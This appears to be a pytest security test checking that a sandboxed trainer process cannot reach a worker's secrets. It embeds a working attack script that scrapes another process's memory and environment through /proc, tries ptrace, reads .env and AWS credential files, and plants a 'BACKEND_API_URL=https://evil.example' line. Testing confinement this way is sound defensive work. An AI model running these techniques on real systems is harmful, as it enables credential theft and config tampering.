"""Code that runs inside the trainer reaches no secret of the worker, under any user.

The code under test is the real trainer command, started by the front desk's `TrainerProcess`. A
`sitecustomize` on its path stands in for an image that took the process over: it tries everything
and writes down what it got.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.photographs import photographs
from training.style.stand_in_model import build_stand_in
from utils import confined

ROOT = Path(__file__).resolve().parents[3]
SECRET = "a-secret-that-the-trainer-must-not-see"

# The code inside the trainer. It runs in a separate thread, so that training goes on.
ATTACK = r"""
import ctypes, json, os, resource, socket, sys, threading

def attempt(action):
    try:
        return action()
    except Exception as error:
        return f"refused: {type(error).__name__}"

def read(path):
    with open(path, "rb") as file:
        return file.read().decode(errors="replace")

def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if rights.startswith("rw"):
                begin, end = (int(part, 16) for part in span.split("-"))
                memory.seek(begin)
                try:
                    if SECRET.encode() in memory.read(end - begin):
                        return "found: " + SECRET
                except OSError:
                    continue
    return "not found"

def traced(pid):
    if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
        raise OSError
    os.waitpid(pid, 0x40000000)
    libc.ptrace(17, pid, 0, 0)
    return "attached"

def planted(path):
    with open(path, "a") as file:
        file.write("BACKEND_API_URL=https://evil.example\n")
    return "written"

def linked(path, to):
    os.link(path, to)
    return read(to)

def connected(port):
    with socket.create_connection(("127.0.0.1", port), 5):
        return "connected"

def own_files():
    paths = [f"/proc/self/fd/{number}" for number in os.listdir("/proc/self/fd")]
    return [os.readlink(path) for path in paths if os.path.lexists(path)]

def go():
    global libc
    libc = ctypes.CDLL(None, use_errno=True)
    plan = json.load(open(PLAN))
    desk, outer = os.getppid(), plan["outer"]
    got = {
        "environment of the desk": attempt(lambda: read(f"/proc/{desk}/environ")),
        "environment of the shell around it": attempt(lambda: read(f"/proc/{outer}/environ")),
        "memory of the desk": attempt(lambda: memory(desk)),
        "open files of the desk": attempt(lambda: os.readlink(f"/proc/{desk}/fd/0")),
        "tracing the desk": attempt(lambda: traced(desk)),
        "a signal to the desk": attempt(lambda: str(os.kill(desk, 0))),
        ".env": attempt(lambda: read(plan["env"])),
        "a way round to .env": attempt(lambda: read("/proc/self/root" + plan["env"])),
        "another name for .env": attempt(lambda: linked(plan["env"], plan["work"] + "/link")),
        "the file of --config": attempt(lambda: read(plan["config"])),
        "keys in the home folder": attempt(lambda: read(plan["aws"])),
        "the file that a variable names": attempt(lambda: read(plan["token"])),
        "a setting planted in .env": attempt(lambda: planted(plan["env"])),
        "a line planted in the home folder": attempt(lambda: planted(plan["profile"])),
        "a connection to the broker": attempt(lambda: connected(plan["port"])),
        "command line of the desk": attempt(lambda: read(f"/proc/{desk}/cmdline")),
        "own environment": repr(dict(os.environ)),
        "own open files": repr(own_files()),
        "core file size": str(resource.getrlimit(resource.RLIMIT_CORE)[0]),
        "python": sys.orig_argv,
    }
    with open(plan["work"] + "/got.part", "w") as file:
        json.dump(got, file)
    os.rename(plan["work"] + "/got.part", plan["work"] + "/got.json")

SECRET, PLAN = "".join(("a-secret-that-", "the-trainer-must-not-see")), os.path.join(
    os.path.dirname(os.path.abspath(__file__)), "plan.json")
if {"training", "attack"} & set(sys.orig_argv):
    threading.Thread(target=go, daemon=True).start()
"""

# The front desk: secrets in its environment, in its memory, in `.env` and in the file of --config.
DESK = r"""
import json, os, socket, sys, time
from pathlib import Path
import config
from consumer.life.stop_signal import StopSignal
from consumer.trainer.trainer_process import TrainerProcess
from jobs.kinds import Run
from jobs.style import HyperParameters, StyleKind, TrainingImage, TrainingRun
from utils import logger

IDLE = "import os, sys; os.read(int(sys.argv[3]), 1)"  # until its pipe ends
plan = json.loads(Path(sys.argv[1], "plan.json").read_text())
broker = socket.create_server(("127.0.0.1", 0))
plan["port"] = broker.getsockname()[1]
Path(sys.argv[1], "plan.json").write_text(json.dumps(plan))
settings = config.load_local(file=Path(plan["config"]))
logger.configure()
work = Path(plan["work"])
trainer = TrainerProcess(
    settings.trainer_options(),
    settings.trainer_environment() | {"PYTHONPATH": os.pathsep.join([sys.argv[1], *sys.path[1:]])},
    stall_seconds=60,
    confinement=settings.trainer_confinement(work),
    **({} if plan["trains"] else {"command": (sys.executable, "-c", IDLE, "attack")}),
)
if not plan["trains"]:
    trainer.start()
    deadline = time.monotonic() + 60
    while not (work / "got.json").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    trainer.close()
    sys.exit()
run = TrainingRun(
    task_id="task-1", style_id=1, claim=1,
    images=tuple(
        TrainingImage(path.name, str(path), "") for path in sorted(Path(plan["pictures"]).iterdir())
    ),
    parameters=HyperParameters(epochs=1, resolution=64, rank=2),
    work_folder=str(work / "job"), checkpoint_interval=1,
)
sent = Run.of(run, StyleKind.runner, {})
finished = trainer.run(sent, lambda event: None, StopSignal(), max_seconds=120)
print("files", json.dumps(finished.files))
trainer.close()
"""
REACHABLE = (
    "environment of the desk",
    "environment of the shell around it",
    "memory of the desk",
    ".env",
    "a way round to .env",
    "another name for .env",
    "the file of --config",
    "keys in the home folder",
    "the file that a variable names",
)
ACTS = (
    "open files of the desk",
    "tracing the desk",
    "a signal to the desk",
    "a setting planted in .env",
    "a line planted in the home folder",
    "a connection to the broker",
)
needs_landlock = pytest.mark.skipif(
    confined.landlock_version() < confined.LEAST_ABI,
    reason="this kernel has no Landlock, so there is nothing to test",
)
Attack = Callable[..., dict[str, Any]]


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_stand_in(tmp_path_factory.mktemp("model") / "stand-in")


@pytest.fixture
def attack(tmp_path: Path, model: Path) -> Iterator[Attack]:
    """Runs a desk as some user, trains once, and returns what the code in the trainer got."""
    # Not in `tmp_path`, whose parents only this test's user can open.
    place = Path(tempfile.gettempdir()) / f"confinement-{os.getpid()}-{tmp_path.name}"

    def run(*, user: int, trains: bool = False, before: str = "") -> dict[str, Any]:
        shutil.rmtree(place, ignore_errors=True)
        for name in ("home/.aws", "app", "work", "pictures", "path", "outside"):
            (place / name).mkdir(parents=True)
        shutil.copytree(model, place / "model")
        for photograph in photographs()[:3]:
            (place / "pictures" / photograph.name).write_bytes(photograph.content)
        files = {
            "env": place / "app/.env",
            "config": place / "outside/settings.toml",
            "aws": place / "home/.aws/credentials",
            "token": place / "outside/web-identity",
        }
        files["env"].write_text(f"INTERNAL_API_TOKEN={SECRET}\n")
        files["config"].write_text(
            f'internal_api_token = "{SECRET}"\nbase_model = "{place}/model"\nallow_cpu = true\n'
        )
        files["aws"].write_text(SECRET)
        (place / "home/.profile").touch()
        files["token"].write_text(SECRET)
        plan: dict[str, Any] = {name: str(path) for name, path in files.items()} | {
            "trains": trains,
            "work": str(place / "work"),
            "profile": str(place / "home/.profile"),
            "pictures": str(place / "pictures"),
        }
        (place / "path/sitecustomize.py").write_text(ATTACK)
        (place / "path/plan.json").write_text(json.dumps(plan))
        (place / "app/desk.py").write_text(before + DESK)
        # A shell starts it, as in a container with a separate init process.
        start = (
            "ulimit -S -c $(ulimit -H -c); "  # core files, where the machine allows them
            f"{python_for(user)} -c 'import json, os, sys; path = sys.argv[1]; "
            'plan = json.load(open(path)); plan["outer"] = os.getppid(); '
            f'json.dump(plan, open(path, "w"))\' {place}/path/plan.json; '
            f"{python_for(user)} desk.py {place}/path; exit $?"
        )
        for path in (place, *place.rglob("*")):
            os.chown(path, user, -1)
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(place / "home"),
            "PYTHONPATH": os.pathsep.join((str(ROOT), sysconfig.get_paths()["purelib"])),
            "RABBITMQ_PASS": SECRET,
            "AWS_WEB_IDENTITY_TOKEN_FILE": str(files["token"]),
            "OMP_NUM_THREADS": "1",
            "TMPDIR": str(place / "work"),
        }
        ended = subprocess.run(
            ["/bin/sh", "-c", start],
            cwd=place / "app",
            env=environment,
            user=user,
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )
        assert ended.returncode == 0, ended.stderr
        assert not trains or "lora_weights.safetensors" in ended.stdout, "training did not work"
        got: dict[str, Any] = json.loads((place / "work/got.json").read_text())
        return got | {"log": ended.stderr}

    yield run
    shutil.rmtree(place, ignore_errors=True)


def ordinary_user() -> int:
    """A user that is not root: this test's own, or the user `nobody`."""
    return os.geteuid() or pwd.getpwnam("nobody").pw_uid


def python_for(user: int) -> str:
    """This Python, or one of the same version that the user may run."""
    own = Path(sys.executable)
    found = shutil.which(f"python3.{sys.version_info.minor}", path="/usr/local/bin:/usr/bin")
    for candidate in filter(None, (str(own), found)):
        with contextlib.suppress(PermissionError, subprocess.CalledProcessError):
            subprocess.run([candidate, "-c", ""], user=user, check=True, capture_output=True)
            return candidate
    pytest.fail(f"user {user} can run no Python of this version")


@needs_landlock
def test_code_in_the_trainer_gets_no_secret_of_a_worker_that_runs_as_an_ordinary_user(
    attack: Attack,
) -> None:
    got = attack(user=ordinary_user(), trains=True)
    assert_nothing_got_out(got)


@needs_landlock
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can start a worker as root")
def test_code_in_the_trainer_gets_no_secret_of_a_worker_that_runs_as_root(attack: Attack) -> None:
    assert_nothing_got_out(attack(user=0))


def assert_nothing_got_out(got: dict[str, Any]) -> None:
    """Nothing was read, nothing was done, and nothing was inherited."""
    reached = {name: got[name] for name in (*REACHABLE, *ACTS) if "refused" not in got[name]}
    assert reached == {}
    assert SECRET not in json.dumps(got)
    settings_files = (".env", "settings.toml", "plan.json", "web-identity", "credentials")
    assert not [name for name in settings_files if name in got["own open files"]]
    assert got["core file size"] == "0"
    assert "not_confined" not in got["log"] and "not confined" not in got["log"]


def test_without_the_protection_the_code_gets_every_secret(attack: Attack) -> None:
    """The control: the attack works."""
    before = (
        "from utils import confined\n"
        "confined.hide_own_memory = lambda: None\n"
        "from consumer.trainer import trainer_process\n"
        "trainer_process.hide_own_memory = lambda: None\n"
        "confined.Confinement.command = lambda self, program: list(program)\n"
    )
    got = attack(user=ordinary_user(), before=before)
    assert {name for name in REACHABLE if SECRET not in got[name]} == set()
    assert {name: got[name] for name in ACTS if "refused" in got[name]} == {}


WITHOUT_LANDLOCK = """
from utils import confined
def command(self, program):
    import sys
    start = (
        "import sys; sys.path.insert(0, sys.argv.pop(1)); from utils import confined; "
        "confined.landlock_version = lambda: 0; confined.main(sys.argv[1:])"
    )
    made = confined_command(self, program)
    root = str(confined.Path(confined.__file__).parent.parent)
    return [sys.executable, "-S", "-c", start, root, *made[4:]]
confined_command = confined.Confinement.command
confined.Confinement.command = command
"""


DESK_WITHOUT_LANDLOCK = """
from consumer.trainer import trainer_process
trainer_process.landlock_version = lambda: 0
"""


@pytest.mark.parametrize("user", sorted({ordinary_user(), os.geteuid()}))
def test_a_kernel_without_landlock_still_hides_the_memory_of_the_worker_and_the_log_has_a_warning(
    attack: Attack, user: int
) -> None:
    got = attack(user=user, before=WITHOUT_LANDLOCK + DESK_WITHOUT_LANDLOCK)
    for name in (
        "environment of the desk",
        "memory of the desk",
        "open files of the desk",
        "tracing the desk",
    ):
        assert "refused" in got[name], name
    lines = [json.loads(line) for line in got["log"].splitlines()]
    warnings = [line for line in lines if line["event"] == "trainer_not_confined"]
    assert warnings and "Landlock" in warnings[0]["reason"]
